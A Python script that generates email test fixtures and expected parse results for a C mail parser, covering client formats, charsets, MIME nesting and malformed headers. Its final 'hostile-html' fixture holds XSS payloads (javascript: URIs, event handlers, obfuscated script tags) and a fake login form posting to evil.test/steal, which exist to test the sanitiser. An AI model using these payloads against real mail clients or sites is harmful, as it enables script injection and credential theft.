#!/usr/bin/env python3
"""Writes tests/mail/corpus/: messages shaped like real mail, each with the
parse outcome it must have (NAME.expect), for tests/unit/test_mailparse.c.

The bodies are encoded here with Python's codecs, so a message declared in
KOI8-R really holds KOI8-R bytes; attachments are made-up bytes whose SHA-256
is written into the .expect from the bytes themselves. Run it again after
changing a message (the files are committed; the script is how they were
made):

    python3 tests/mail/gen-corpus.py

.expect keys (one per line, "key: value"; keys that may repeat do so):
  refused: yes              mailparse answers -1 (nothing else is checked)
  subject: S                the decoded subject, exactly
  from: ADDR | -            the From address (lower-case), - for none
  from-name: N              its display name, exactly
  message-id: <ID> | -      in-reply-to: <ID> | -
  references: N             how many References were kept
  rcpt: ADDR                a recipient that must be listed (repeats)
  rcpts: N                  how many recipients
  date: N                   Unix time, 0 for none or unreadable
  text: LINE                a line the text must contain (repeats)
  text-not: S               a string the text must not contain (repeats)
  reply: MARKER | all       the quoted part starts with MARKER; all: nothing
                            is folded (reply_len is the whole text)
  files: N                  how many files
  file: NAME | TYPE | SIZE | SHA256-PREFIX [| inline CID]   (repeats)
  file-name-not: S          no file name contains S (repeats)
  auto: FLAG,FLAG | none    the autoflags exactly (AUTO_SUBMITTED,
                            PRECEDENCE, LIST, BOUNCE, AUTOREPLY)
  x-loop: V | -
  html: none                no HTML part
  html-has: S               the sanitised HTML contains S (repeats)
  html-not: S               the sanitised HTML does not contain S (repeats)
"""
import base64
import hashlib
import os
import quopri

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def qp(b):
    return quopri.encodestring(b).replace(b"\n", b"\r\n")


def b64(b):
    s = base64.encodebytes(b)
    return s.replace(b"\n", b"\r\n")


def crlf(s):
    """Header/structure text (str) to CRLF bytes; only ASCII expected
    unless given as bytes."""
    if isinstance(s, str):
        s = s.encode("ascii")
    return s.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def fake(n, seed):
    """n made-up bytes, the same on every run."""
    out = bytearray()
    h = hashlib.sha256(seed.encode()).digest()
    while len(out) < n:
        out += h
        h = hashlib.sha256(h).digest()
    return bytes(out[:n])


def sha(b):
    return hashlib.sha256(b).hexdigest()[:16]


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a1c5e1"
    "3b0000000049454e44ae426082")
PDF = b"%PDF-1.4\n" + fake(3000, "pdf") + b"\n%%EOF\n"

corpus = {}


def add(name, raw, expect):
    corpus[name] = (raw, expect)


def hdr(frm, to, subject, msgid, date="Mon, 30 Nov 2026 10:00:00 +0000",
        extra=""):
    return ("From: %s\nTo: %s\nSubject: %s\nDate: %s\nMessage-ID: %s\n"
            "MIME-Version: 1.0\n%s" % (frm, to, subject, date, msgid, extra))


def fileline(name, ctype, data, cid=None):
    s = "file: %s | %s | %d | %s" % (name, ctype, len(data), sha(data))
    if cid:
        s += " | inline " + cid
    return s


DATE = 1796032800   # Mon, 30 Nov 2026 10:00:00 +0000

# --- Outlook ---------------------------------------------------------------
plain = ("Hello team,\n\nThe printer on floor 2 says \u201cPC LOAD LETTER\u201d "
         "again \u2013 it\u2019s the third time.\n\nRegards,\nAnna\n\n"
         "From: Helpdesk <help@acme.test>\nSent: Monday, November 30, 2026 9:00 AM\n"
         "To: Anna Berg <anna@corp.test>\nSubject: RE: Printer\n\n"
         "We have sent a technician.\n")
html = ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head>"
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1252\">"
        "<style><!-- p.MsoNormal {margin:0cm; font-family:Calibri} --></style></head>"
        "<body lang=\"EN-GB\" link=\"#0563C1\"><div class=\"WordSection1\">"
        "<p class=\"MsoNormal\">Hello team,<o:p></o:p></p>"
        "<p class=\"MsoNormal\">The printer on floor 2 says \u201cPC LOAD LETTER\u201d again "
        "\u2013 it\u2019s the third time.<o:p></o:p></p>"
        "<p class=\"MsoNormal\">Regards,<br>Anna<o:p></o:p></p></div>"
        "<div id=\"appendonsend\"></div><hr style=\"display:inline-block;width:98%\">"
        "<div id=\"divRplyFwdMsg\" dir=\"ltr\"><font face=\"Calibri\"><b>From:</b> Helpdesk"
        " &lt;help@acme.test&gt;<br><b>Sent:</b> Monday, November 30, 2026 9:00 AM</font></div>"
        "<div><p class=\"MsoNormal\">We have sent a technician.</p></div></body></html>")
add("outlook-html-1252", crlf(hdr(
    "Anna Berg <anna@corp.test>", "Helpdesk <help@acme.test>", "RE: Printer",
    "<AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.outlook.com>",
    extra="In-Reply-To: <hd.1.5.abc@acme.test>\nReferences: <hd.1.5.abc@acme.test>\n"
    "Thread-Topic: Printer\nX-MS-Has-Attach: \nContent-Language: en-GB\n"
    "Content-Type: multipart/alternative;\n\tboundary=\"_000_AM0PR01MB1234_\"\n\n"))
    + crlf("--_000_AM0PR01MB1234_\nContent-Type: text/plain; charset=\"Windows-1252\"\n"
           "Content-Transfer-Encoding: quoted-printable\n\n")
    + qp(plain.encode("cp1252")) + crlf("\n--_000_AM0PR01MB1234_\n"
    "Content-Type: text/html; charset=\"Windows-1252\"\nContent-Transfer-Encoding: quoted-printable\n\n")
    + qp(html.encode("cp1252")) + crlf("\n--_000_AM0PR01MB1234_--\n"),
    ["subject: RE: Printer", "from: anna@corp.test", "from-name: Anna Berg",
     "message-id: <AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.outlook.com>",
     "in-reply-to: <hd.1.5.abc@acme.test>", "references: 1", "rcpt: help@acme.test",
     "rcpts: 1", "date: %d" % DATE,
     "text: The printer on floor 2 says \u201cPC LOAD LETTER\u201d again \u2013 it\u2019s the third time.",
     "reply: From: Helpdesk <help@acme.test>", "files: 0", "auto: none",
     "html-has: <p>Hello team,</p>", "html-has: <details><summary>Quoted text</summary>",
     "html-not: MsoNormal", "html-not: <style", "html-not: style=", "html-not: o:p",
     "html-not: WordSection", "html-not: class=\"W", "html-has: <div class=\"mailhtml\"><div><p>Hello team,</p>"])

add("outlook-original-message", crlf(hdr(
    "=?iso-8859-1?Q?M=FCller=2C_Jan?= <Jan.Mueller@Corp.Test>",
    "help@acme.test", "AW: Zugang gesperrt", "<000001d9@corp.test>",
    extra="Content-Type: text/plain; charset=\"iso-8859-1\"\n"
    "Content-Transfer-Encoding: 8bit\nX-Mailer: Microsoft Outlook 16.0\n\n"))
    + crlf("Es geht immer noch nicht. Grüße\n\n-----Original Message-----\n"
           "From: Helpdesk [mailto:help@acme.test]\nSent: Monday, November 30, 2026 9:00 AM\n"
           "Subject: Zugang gesperrt\n\nBitte versuchen Sie es erneut.\n".encode("latin-1")),
    ["subject: AW: Zugang gesperrt", "from: jan.mueller@corp.test",
     "from-name: Müller, Jan", "text: Es geht immer noch nicht. Grüße",
     "reply: -----Original Message-----", "auto: none", "html: none", "files: 0"])

add("outlook-oof", crlf(hdr(
    "Carl Ode <carl@corp.test>", "help@acme.test",
    "Automatic reply: [#12] Printer", "<oof.1@corp.test>",
    extra="Auto-Submitted: auto-generated\nX-Auto-Response-Suppress: All\n"
    "X-MS-Exchange-Organization-MessageClass: IPM.Note.Rules.OofTemplate.Microsoft\n"
    "Content-Type: text/plain; charset=utf-8\n\n"))
    + crlf("I am out of the office until 7 December.\n"),
    ["subject: Automatic reply: [#12] Printer", "from: carl@corp.test",
     "auto: AUTO_SUBMITTED,AUTOREPLY", "text: I am out of the office until 7 December.",
     "reply: all", "html: none"])

# --- Gmail -----------------------------------------------------------------
gplain = ("Thanks, that worked!\n\nOn Mon, 30 Nov 2026 at 09:00, Acme Helpdesk <\n"
          "help@acme.test> wrote:\n\n> Please restart the router.\n>\n")
ghtml = ("<div dir=\"ltr\">Thanks, that worked!</div><br><div class=\"gmail_quote\">"
         "<div dir=\"ltr\" class=\"gmail_attr\">On Mon, 30 Nov 2026 at 09:00, Acme Helpdesk "
         "&lt;<a href=\"mailto:help@acme.test\">help@acme.test</a>&gt; wrote:<br></div>"
         "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px "
         "solid rgb(204,204,204);padding-left:1ex\">Please restart the router.</blockquote></div>")
add("gmail-alternative", crlf(hdr(
    "Dana Smith <dana.smith@gmail.com>", "help+ws@acme.test", "Re: [#7] Wifi down",
    "<CAF=abc+123@mail.gmail.com>",
    extra="In-Reply-To: <hd.7.1.x@acme.test>\nReferences: <hd.7.0.x@acme.test> <hd.7.1.x@acme.test>\n"
    "Content-Type: multipart/alternative; boundary=\"000000000000a1b2c3\"\n\n"))
    + crlf("--000000000000a1b2c3\nContent-Type: text/plain; charset=\"UTF-8\"\n\n" + gplain
           + "\n--000000000000a1b2c3\nContent-Type: text/html; charset=\"UTF-8\"\n\n" + ghtml
           + "\n\n--000000000000a1b2c3--\n"),
    ["subject: Re: [#7] Wifi down", "from: dana.smith@gmail.com", "from-name: Dana Smith",
     "message-id: <CAF=abc+123@mail.gmail.com>", "in-reply-to: <hd.7.1.x@acme.test>",
     "references: 2", "rcpt: help+ws@acme.test", "text: Thanks, that worked!",
     "reply: On Mon, 30 Nov 2026 at 09:00, Acme Helpdesk <", "files: 0",
     "html-has: <div>Thanks, that worked!</div>",
     "html-has: <details><summary>Quoted text</summary><div>",
     "html-has: <a href=\"mailto:help@acme.test\" rel=\"nofollow noopener noreferrer\">",
     "html-not: style=", "html-not: gmail_quote"])

add("gmail-attachment", crlf(hdr(
    "dana.smith@gmail.com", "help@acme.test", "Invoice attached",
    "<CAF=def@mail.gmail.com>",
    extra="Content-Type: multipart/mixed; boundary=\"0000mixed\"\n\n"))
    + crlf("--0000mixed\nContent-Type: multipart/alternative; boundary=\"0000alt\"\n\n"
           "--0000alt\nContent-Type: text/plain; charset=\"UTF-8\"\n\nSee the invoice.\n\n"
           "--0000alt\nContent-Type: text/html; charset=\"UTF-8\"\n\n<div dir=\"ltr\">See the <b>invoice</b>.</div>\n\n"
           "--0000alt--\n--0000mixed\nContent-Type: application/pdf; name=\"invoice-2026.pdf\"\n"
           "Content-Disposition: attachment; filename=\"invoice-2026.pdf\"\n"
           "Content-Transfer-Encoding: base64\nContent-ID: <f_abc123>\nX-Attachment-Id: f_abc123\n\n")
    + b64(PDF) + crlf("--0000mixed--\n"),
    ["subject: Invoice attached", "from: dana.smith@gmail.com", "from-name: ",
     "text: See the invoice.", "reply: all", "files: 1",
     fileline("invoice-2026.pdf", "application/pdf", PDF), "html-has: <b>invoice</b>"])

# --- Apple Mail ------------------------------------------------------------
aplain = ("Here is a screenshot of the error.\n\n"
          "On 30 Nov 2026, at 09:00, Acme Helpdesk <help@acme.test> wrote:\n\n"
          "> Could you send a screenshot?\n")
ahtml = ("<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head>"
         "<body style=\"overflow-wrap: break-word;\"><div>Here is a screenshot of the error.</div>"
         "<div><img apple-inline=\"yes\" id=\"A1\" src=\"cid:F00D-1234@apple.test\" alt=\"screenshot\"></div>"
         "<div><br><blockquote type=\"cite\"><div>On 30 Nov 2026, at 09:00, Acme Helpdesk "
         "&lt;help@acme.test&gt; wrote:</div><div>Could you send a screenshot?</div></blockquote></div>"
         "</body></html>")
add("apple-related-inline", crlf(hdr(
    "=?utf-8?Q?Fran=C3=A7ois_P=C3=A9rez?= <francois@me.test>", "help@acme.test",
    "=?utf-8?Q?R=C3=A9_:_[#3]_=C3=89cran_noir?=", "<F00D-MSG@me.test>",
    extra="X-Mailer: Apple Mail (2.3774.200.91.1.1)\n"
    "Content-Type: multipart/alternative; boundary=\"Apple-Mail=_A1\"\n\n"))
    + crlf("--Apple-Mail=_A1\nContent-Transfer-Encoding: quoted-printable\n"
           "Content-Type: text/plain;\n\tcharset=utf-8\n\n") + qp(aplain.encode())
    + crlf("\n--Apple-Mail=_A1\nContent-Type: multipart/related;\n\ttype=\"text/html\";\n"
           "\tboundary=\"Apple-Mail=_R2\"\n\n--Apple-Mail=_R2\nContent-Transfer-Encoding: quoted-printable\n"
           "Content-Type: text/html;\n\tcharset=utf-8\n\n") + qp(ahtml.encode())
    + crlf("\n--Apple-Mail=_R2\nContent-Transfer-Encoding: base64\nContent-Disposition: inline;\n"
           "\tfilename=\"Screenshot 2026-11-30.png\"\nContent-Type: image/png;\n"
           "\tx-unix-mode=0644;\n\tname=\"Screenshot 2026-11-30.png\"\n"
           "Content-Id: <F00D-1234@apple.test>\n\n") + b64(PNG)
    + crlf("\n--Apple-Mail=_R2--\n\n--Apple-Mail=_A1--\n"),
    ["subject: Ré : [#3] Écran noir", "from: francois@me.test", "from-name: François Pérez",
     "text: Here is a screenshot of the error.",
     "reply: On 30 Nov 2026, at 09:00, Acme Helpdesk <help@acme.test> wrote:",
     "files: 1", fileline("Screenshot 2026-11-30.png", "image/png", PNG, "F00D-1234@apple.test"),
     "html-has: <img src=\"cid:F00D-1234@apple.test\" alt=\"screenshot\">",
     "html-has: <details><summary>Quoted text</summary><blockquote>",
     "html-not: apple-inline", "html-not: style="])

# --- Thunderbird (format=flowed) ------------------------------------------
tb = ("Hello,\n\nthe VPN client drops the connection every ten minutes, \n"
      "and reconnecting takes a long time.\n\n"
      "On 30/11/2026 09:00, Acme Helpdesk wrote:\n"
      "> Which version of the client do you \n> use?\n\n"
      "-- \nPeter Lang\nIT, Example GmbH\n")
add("thunderbird-flowed", crlf(hdr(
    "Peter Lang <peter@example.test>", "help@acme.test", "Re: VPN",
    "<8d1e2f3a-4b5c@example.test>",
    extra="User-Agent: Mozilla Thunderbird\nContent-Language: de-DE\n"
    "Content-Type: text/plain; charset=UTF-8; format=flowed\n"
    "Content-Transfer-Encoding: 7bit\n\n")) + crlf(tb),
    ["subject: Re: VPN", "from: peter@example.test",
     "text: the VPN client drops the connection every ten minutes, and reconnecting takes a long time.",
     "text: > Which version of the client do you use?",
     "reply: On 30/11/2026 09:00, Acme Helpdesk wrote:", "html: none"])

# --- phones ---------------------------------------------------------------
ios = ("The app crashes when I open it \U0001F62D\n\nSent from my iPhone\n\n"
       "> On 30 Nov 2026, at 09:00, Acme Helpdesk <help@acme.test> wrote:\n>\n"
       "> Does it still crash?\n")
add("iphone", crlf(hdr(
    "Lea <lea@icloud.test>", "help@acme.test", "Re: [#9] App", "<iphone-1@icloud.test>",
    extra="X-Mailer: iPhone Mail (21A329)\nContent-Type: text/plain; charset=utf-8\n"
    "Content-Transfer-Encoding: base64\n\n")) + b64(ios.encode()),
    ["subject: Re: [#9] App", "text: The app crashes when I open it \U0001F62D",
     "text: Sent from my iPhone",
     "reply: > On 30 Nov 2026, at 09:00, Acme Helpdesk <help@acme.test> wrote:"])

android = ("Yes it works now, thanks\n\nOn Mon, Nov 30, 2026, 09:00 Acme Helpdesk "
           "<help@acme.test> wrote:\n\n> Please update the app.\n")
add("android", crlf(hdr(
    "Omar <omar@android.test>", "help@acme.test", "Re: Update", "<CAJ-android@mail.gmail.com>",
    extra="Content-Type: multipart/alternative; boundary=\"a1\"\n\n"))
    + crlf("--a1\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n")
    + qp(android.encode()) + crlf("\n--a1\nContent-Type: text/html; charset=\"UTF-8\"\n\n"
    "<div dir=\"auto\">Yes it works now, thanks</div><br><div class=\"gmail_quote\">"
    "<div dir=\"ltr\" class=\"gmail_attr\">On Mon, Nov 30, 2026, 09:00 Acme Helpdesk wrote:<br></div>"
    "<blockquote class=\"gmail_quote\">Please update the app.</blockquote></div>\n--a1--\n"),
    ["subject: Re: Update", "text: Yes it works now, thanks",
     "reply: On Mon, Nov 30, 2026, 09:00 Acme Helpdesk <help@acme.test> wrote:",
     "html-has: <details><summary>Quoted text</summary>"])

# --- charsets: each body really in its charset -----------------------------
charsets = [
    ("iso-8859-2", "iso-8859-2", "Zażółć gęślą jaźń - drukarka nie działa.", "Drukarka"),
    ("iso-8859-7", "iso-8859-7", "Ο εκτυπωτής δεν λειτουργεί.", "Εκτυπωτής"),
    ("iso-8859-15", "iso-8859-15", "La facture est de 120 € hors taxes, merci.", "Facture"),
    ("windows-1251", "cp1251", "Принтер не работает, помогите.", "Принтер"),
    ("windows-1250", "cp1250", "Tiskárna nefunguje, děkuji.", "Tiskárna"),
    ("koi8-r", "koi8_r", "Не могу войти в систему, пароль не подходит.", "Пароль"),
    ("shift_jis", "shift_jis", "プリンターが動きません。よろしくお願いします。", "プリンター"),
    ("iso-2022-jp", "iso2022_jp", "パスワードを忘れました。再設定をお願いします。", "パスワード"),
    ("gb18030", "gb18030", "打印机不工作了，请帮忙。", "打印机"),
    ("gb2312", "gb2312", "我无法登录系统。", "登录"),
    ("big5", "big5", "印表機無法使用，謝謝。", "印表機"),
    ("euc-kr", "euc_kr", "프린터가 작동하지 않습니다.", "프린터"),
]
for label, codec, body, subj in charsets:
    esubj = "=?%s?B?%s?=" % (label, base64.b64encode(subj.encode(codec)).decode())
    cte = "7bit" if label == "iso-2022-jp" else "8bit"
    add("charset-" + label, crlf(hdr(
        "sender@intl.test", "help@acme.test", esubj, "<cs-%s@intl.test>" % label,
        extra="Content-Type: text/plain; charset=%s\nContent-Transfer-Encoding: %s\n\n"
        % (label, cte))) + crlf((body + "\n").encode(codec)),
        ["subject: " + subj, "from: sender@intl.test", "text: " + body, "reply: all",
         "html: none", "files: 0"])

# A Windows-1252 body in base64 with an HTML part only: html_to_text.
h1252 = ("<html><body><h1>Newsletter</h1><p>Caf\u00e9 \u201copen\u201d</p><ul><li>One</li>"
         "<li>Two</li></ul><p><a href=\"https://acme.test/x?a=1&amp;b=2\">Read more</a></p>"
         "<table><tr><td>A</td><td>B</td></tr></table></body></html>")
add("html-only-1252", crlf(hdr(
    "news@shop.test", "help@acme.test", "Newsletter", "<nl-1@shop.test>",
    extra="Content-Type: text/html; charset=windows-1252\nContent-Transfer-Encoding: base64\n\n"))
    + b64(h1252.encode("cp1252")),
    ["subject: Newsletter", "text: Newsletter", "text: Caf\u00e9 \u201copen\u201d", "text: - One",
     "text: - Two", "text: Read more <https://acme.test/x?a=1&b=2>", "text: A B",
     "html-has: <h1>Newsletter</h1>", "html-has: <li>One</li>",
     "html-has: <a href=\"https://acme.test/x?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">Read more</a>"])

# --- structure -------------------------------------------------------------
TXT = b"line one\r\nline two\r\n"
add("nested-multiparts", crlf(hdr(
    "deep@nest.test", "help@acme.test", "Nested", "<nest-1@nest.test>",
    extra="Content-Type: multipart/mixed; boundary=\"m1\"\n\n"))
    + crlf("This is a multi-part message in MIME format.\n--m1\n"
           "Content-Type: multipart/alternative; boundary=\"a2\"\n\n--a2\n"
           "Content-Type: text/plain; charset=us-ascii\n\nOuter text.\n--a2\n"
           "Content-Type: multipart/related; boundary=\"r3\"\n\n--r3\n"
           "Content-Type: text/html; charset=us-ascii\n\n<p>Outer <img src=\"cid:logo@nest\"></p>\n--r3\n"
           "Content-Type: image/png\nContent-Transfer-Encoding: base64\nContent-ID: <logo@nest>\n\n")
    + b64(PNG) + crlf("--r3--\n--a2--\n--m1\nContent-Type: multipart/mixed; boundary=\"m4\"\n\n--m4\n"
                      "Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n"
                      "Content-Disposition: attachment; filename=report.pdf\n\n")
    + b64(PDF) + crlf("--m4\nContent-Type: text/plain; name=notes.txt\n"
                      "Content-Disposition: attachment; filename=notes.txt\n\n")
    + TXT + crlf("--m4--\n--m1--\n"),
    ["subject: Nested", "text: Outer text.", "text-not: line one", "files: 3",
     fileline("part-1.png", "image/png", PNG, "logo@nest"),
     fileline("report.pdf", "application/pdf", PDF),
     fileline("notes.txt", "text/plain", b"line one\r\nline two"),
     "html-has: <img src=\"cid:logo@nest\">"])

inner = crlf("From: Original Sender <orig@else.test>\nTo: boss@corp.test\n"
             "Subject: Server room is hot\nDate: Sun, 29 Nov 2026 08:00:00 +0000\n"
             "Message-ID: <inner-1@else.test>\nContent-Type: text/plain; charset=utf-8\n\n"
             "The temperature is 35 degrees.\n")
add("forwarded", crlf(hdr(
    "Boss <boss@corp.test>", "help@acme.test", "Fwd: Server room is hot", "<fwd-1@corp.test>",
    extra="Content-Type: multipart/mixed; boundary=\"f1\"\n\n"))
    + crlf("--f1\nContent-Type: text/plain; charset=utf-8\n\nPlease look at this.\n"
           "--f1\nContent-Type: message/rfc822\nContent-Disposition: inline\n\n")
    + inner + crlf("\n--f1--\n"),
    ["subject: Fwd: Server room is hot", "text: Please look at this.",
     "text: ---------- Forwarded message ----------",
     "text: From: Original Sender <orig@else.test>", "text: Subject: Server room is hot",
     "text: The temperature is 35 degrees.", "files: 1", "reply: all",
     "file-name-not: part-"])

inner_html = (b"From: =?utf-8?Q?Zo=C3=AB?= <zoe@vendor.test>\r\nTo: boss@corp.test\r\n"
              b"Subject: Price list 2027\r\nMessage-ID: <inner-2@vendor.test>\r\n"
              b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
              b"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=koi8-r\">"
              b"</head><body><p>" + "Цены растут на 5% за место.".encode("koi8_r")
              + b"</p><script>alert(1)</script></body></html>\r\n")
add("apple-forward-attached", crlf(hdr(
    "Boss <boss@corp.test>", "help@acme.test", "Fwd: Price list 2027", "<fwd-2@corp.test>",
    extra="Content-Type: multipart/mixed; boundary=\"Apple-Mail=_F\"\n\n"))
    + crlf("--Apple-Mail=_F\nContent-Type: multipart/alternative; boundary=\"Apple-Mail=_G\"\n\n"
           "--Apple-Mail=_G\nContent-Type: text/plain; charset=us-ascii\n\nFor the quote.\n\n"
           "--Apple-Mail=_G\nContent-Type: text/html; charset=us-ascii\n\n"
           "<html><body><div>For the <i>quote</i>.</div></body></html>\n--Apple-Mail=_G--\n\n"
           "--Apple-Mail=_F\nContent-Disposition: attachment; filename=\"Price list 2027.eml\"\n"
           "Content-Type: message/rfc822; name=\"Price list 2027.eml\"\n\n")
    + inner_html + crlf("\n--Apple-Mail=_F--\n"),
    ["subject: Fwd: Price list 2027", "text: For the quote.",
     "text: ---------- Forwarded message ----------", "text: From: Zo\u00eb <zoe@vendor.test>",
     "text: Цены растут на 5% за место.", "text-not: alert", "files: 1", "reply: all",
     "html-has: <i>quote</i>", "html-has: Forwarded message", "html-has: Цены растут на 5% за место.",
     "html-not: <script", "html-not: alert"])

add("missing-closing-boundary", crlf(hdr(
    "cut@off.test", "help@acme.test", "Cut off", "<cut-1@off.test>",
    extra="Content-Type: multipart/mixed; boundary=\"cut\"\n\n"))
    + crlf("--cut\nContent-Type: text/plain\n\nThe text before the cut.\n--cut\n"
           "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"log.bin\"\n"
           "Content-Transfer-Encoding: base64\n\n") + b64(fake(1000, "cut")),
    ["subject: Cut off", "text: The text before the cut.", "files: 1",
     fileline("log.bin", "application/octet-stream", fake(1000, "cut"))])

# --- malformed -------------------------------------------------------------
add("malformed-headers", b"From: J\xc3\xbcrgen Wei\xc3\x9f <JUERGEN@weiss.test>\r\n"
    b"To: help@acme.test,, ,\r\n"
    b"Subject: Gr\xc3\xbc\xc3\x9fe =?utf-8?Q?aus_M=C3=BCnchen?=\r\n"
    b"Date: yesterday at noon\r\nMessage-ID: not an id\r\n"
    b"This line has no colon\r\nX-Weird: \x01\x02value\r\n"
    b"Content-Type: text/plain; charset=\"utf-8\r\n\r\n"
    b"Body with Umlaut \xc3\xa4 and a NUL \x00 byte.\r\n",
    ["subject: Grüße aus München", "from: juergen@weiss.test", "from-name: Jürgen Weiß",
     "message-id: -", "date: 0", "rcpt: help@acme.test", "rcpts: 1",
     "text: Body with Umlaut \u00e4 and a NUL  byte."])

add("malformed-8bit-latin1-headers", b"From: Ren\xe9 Ch\xe2teau <rene@chateau.test>\r\n"
    b"To: help@acme.test\r\nSubject: Probl\xe8me r\xe9seau\r\nMessage-ID: <l1@chateau.test>\r\n"
    b"\r\nPlain ASCII body.\r\n",
    ["subject: Problème réseau", "from: rene@chateau.test", "from-name: René Château",
     "text: Plain ASCII body."])

add("no-charset-8bit-utf8", crlf(hdr(
    "eight@bit.test", "help@acme.test", "No charset", "<nc-1@bit.test>",
    extra="Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n"))
    + crlf("Straße und Café, ohne Angabe.\n".encode("utf-8")),
    ["text: Straße und Café, ohne Angabe."])

add("no-charset-8bit-latin1", crlf(hdr(
    "eight@bit.test", "help@acme.test", "No charset either", "<nc-2@bit.test>",
    extra="\n")) + crlf("Stra\u00dfe und Caf\u00e9 \u2013 Latin-1.\n".encode("cp1252")),
    ["text: Straße und Café – Latin-1."])

add("lying-charset-utf8", crlf(hdr(
    "liar@charset.test", "help@acme.test", "Lies", "<lie-1@charset.test>",
    extra="Content-Type: text/plain; charset=utf-8\n\n"))
    + crlf("Declared UTF-8, written in Latin-1: na\u00efve r\u00e9sum\u00e9.\n".encode("latin-1")),
    ["text: Declared UTF-8, written in Latin-1: naïve résumé."])

add("lying-charset-sjis", crlf(hdr(
    "liar@charset.test", "help@acme.test", "More lies", "<lie-2@charset.test>",
    extra="Content-Type: text/plain; charset=shift_jis\n\n"))
    + crlf("Declared Shift_JIS, really UTF-8: \u00fcber \u2192 ok.\n".encode("utf-8")),
    ["text: Declared Shift_JIS, really UTF-8: über → ok."])

add("unknown-charset", crlf(hdr(
    "odd@charset.test", "help@acme.test", "=?x-no-such-charset?Q?odd?=", "<unk-1@charset.test>",
    extra="Content-Type: text/plain; charset=x-no-such-charset\n\n"))
    + crlf("Caf\u00e9 in an unknown charset.\n".encode("cp1252")),
    ["text: Café in an unknown charset."])

# Adjacent base64 words, each padded (Thunderbird's long names, Outlook's
# long file names): GMime 3.2.13 alone loses all but the first.
def bwords(text, n, cs="UTF-8"):
    b = text.encode("utf-8")
    parts = [b[i:i + n] for i in range(0, len(b), n)]
    return " ".join("=?%s?B?%s?=" % (cs, base64.b64encode(x).decode()) for x in parts)


FNAME = "Übersicht der Störungen im November.xlsx"
XLSX = fake(700, "xlsx")
add("rfc2047-split-words", crlf(hdr(
    bwords("Sssś Lałala", 13) + " " + bwords("lala", 4) + " <sss@example.test>",
    "help@acme.test", bwords("Störung: Drucker im 2. Stock druckt nur leere Seiten", 10),
    "<split-1@example.test>",
    extra="Content-Type: multipart/mixed; boundary=\"s\"\n\n"))
    + crlf("--s\nContent-Type: text/plain; charset=utf-8\n\nSiehe Anhang.\n--s\n"
           "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n"
           "\tname=\"" + bwords(FNAME, 20).replace(" ", "\n\t") + "\"\n"
           "Content-Disposition: attachment;\n\tfilename=\"" + bwords(FNAME, 20).replace(" ", "\n\t")
           + "\"\nContent-Transfer-Encoding: base64\n\n") + b64(XLSX) + crlf("--s--\n"),
    ["subject: Störung: Drucker im 2. Stock druckt nur leere Seiten",
     "from: sss@example.test", "from-name: Sssś Lałalalala", "text: Siehe Anhang.",
     "files: 1", fileline(FNAME, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", XLSX)])

# --- hostile ----------------------------------------------------------------
hostile = ("<html><head><style>body{background:url(javascript:alert(1))}</style>"
           "<script>alert('head')</script><meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">"
           "<base href=\"https://evil.test/\"><link rel=stylesheet href=https://evil.test/x.css></head>"
           "<body onload=\"alert(1)\"><p>Dear customer</p>"
           "<img src=x onerror=alert(1)>"
           "<img src=\"https://tracker.test/pixel.gif\" alt=\"pixel\">"
           "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"
           "<a href=\"javascript:alert(1)\">one</a>"
           "<a href=\"jav&#x61;script:alert(2)\">two</a>"
           "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(3)\">three</a>"
           "<a href=\" JaVaScRiPt:alert(4)\">four</a>"
           "<a href=\"java&#9;script:alert(5)\">five</a>"
           "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==\">six</a>"
           "<a href=\"vbscript:msgbox(7)\">seven</a>"
           "<a href=\"https://ok.test/\" onclick=\"alert(8)\" style=\"color:red\">good</a>"
           "<div style=\"width: expression(alert(9))\">css</div>"
           "<iframe src=\"https://evil.test/frame\"></iframe>"
           "<form action=\"https://evil.test/steal\"><input name=pw type=password><button>Log in</button></form>"
           "<object data=\"x.swf\"></object><embed src=\"x.swf\">"
           "<svg onload=alert(10)><script>alert(11)</script></svg>"
           "<math><mtext><script>alert(12)</script></mtext></math>"
           "<scr<script>ipt>alert(13)</script>"
           "<a href=\"https://ok.test/&quot; onmouseover=&quot;alert(14)\">q</a>"
           "<!--[if gte mso 9]><script>alert(15)</script><![endif]-->"
           "<p title=\"&lt;script&gt;\">end</p></body></html>")
add("hostile-html", crlf(hdr(
    "attacker@evil.test", "help@acme.test", "<script>alert('subject')</script>", "<evil-1@evil.test>",
    extra="Content-Type: text/html; charset=utf-8\n\n")) + crlf(hostile),
    ["subject: <script>alert('subject')</script>", "text: Dear customer",
     "text-not: alert('head')", "html-not: <script", "html-not: onerror", "html-not: onload",
     "html-not: onclick", "html-not: onmouseover=\"", "html-not: javascript", "html-not: data:",
     "html-not: vbscript", "html-not: style=", "html-not: expression", "html-not: <iframe",
     "html-not: <form", "html-not: <input", "html-not: <object", "html-not: <embed", "html-not: <svg",
     "html-not: <math", "html-not: src=\"http", "html-not: src=x", "html-not: <meta", "html-not: <base",
     "html-not: <link", "html-not: tracker.test",
     "html-has: <a href=\"https://ok.test/\" rel=\"nofollow noopener noreferrer\">good</a>",
     "html-has: pixel", "html-has: <p>Dear customer</p>"])

